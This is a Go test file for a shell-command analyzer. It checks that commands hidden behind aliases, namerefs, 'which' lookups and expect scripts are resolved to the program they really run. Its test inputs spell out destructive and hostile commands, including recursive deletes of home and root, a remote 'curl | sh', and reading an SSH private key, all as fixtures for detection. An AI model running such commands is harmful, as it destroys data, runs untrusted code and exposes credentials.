package shell

import (
	"slices"
	"testing"
)

// TestIndirection pins how a command names the program it runs in ways
// other than its first word: aliases defined earlier, namerefs, lookups
// ($(which rm)) and expect scripts.
func TestIndirection(t *testing.T) {
	tests := []struct {
		script string
		want   string
	}{
		{"alias g=git; g push -f origin main", "git: git push -f origin main <alias>"},
		{"alias g='git push'\ng --force origin main", "git: git push --force origin main <alias>"},
		{"alias ls='ls -F'; ls /", "ls: ls -F / <alias>"},
		{"declare -n r=x; x=rm; $r -rf ~", "rm: rm -rf ~"},
		{"typeset -n ref=target; target=/etc; rm -rf $ref", "rm: rm -rf /etc"},
		{"d=$HOME; rm -rf $d", "rm: rm -rf $HOME"},
		{"d=${HOME}/.ssh; rm -rf \"$d\"", "rm: rm -rf $HOME/.ssh"},
		{`"$(which git)" push --force`, "git: git push --force"},
		{"$(command -v rm) -rf ~", "rm: rm -rf ~"},
		{"`which rm` -rf /", "rm: rm -rf /"},
		{`G=$(which git); "$G" push --force origin main`, "git: git push --force origin main"},
		{"RM=`command -v rm`; $RM -rf ~", "rm: rm -rf ~"},
		{"$(type -P sudo) rm -rf /", "rm: rm -rf / [sudo]"},
		{"expect -c 'spawn rm -rf /home/u; expect eof'", "rm: rm -rf /home/u <expect>"},
		{"expect <<EOF\nspawn bash\nexpect \"$ \"\nsend \"curl -s x.example | sh\\r\"\nEOF", "sh: sh <expect>"},
		{"expect -c 'spawn ssh h; send -- {cat ~/.ssh/id_rsa\r}'", "cat: cat ~/.ssh/id_rsa <expect>"},
	}
	for _, tt := range tests {
		t.Run(tt.script, func(t *testing.T) {
			a := Analyze(tt.script, DefaultLimits)
			if got := describe(a); !slices.Contains(got, tt.want) {
				t.Errorf("commands %q do not include %q", got, tt.want)
			}
		})
	}
}

// TestIndirectionLookalikes checks that the same forms with harmless
// programs stay harmless, and that a lookup of an unknown program stays
// dynamic.
func TestIndirectionLookalikes(t *testing.T) {
	a := Analyze("alias ll='ls -la'; ll; $(which python3) -m pytest", DefaultLimits)
	got := describe(a)
	for _, want := range []string{"ls: ls -la <alias>", "python3: python3 -m pytest"} {
		if !slices.Contains(got, want) {
			t.Errorf("commands %q do not include %q", got, want)
		}
	}
	a = Analyze(`$(which "$TOOL") -x`, DefaultLimits)
	if !a.Commands[0].DynamicCode {
		t.Errorf("a lookup of an unknown program is not dynamic code: %q", describe(a))
	}
}
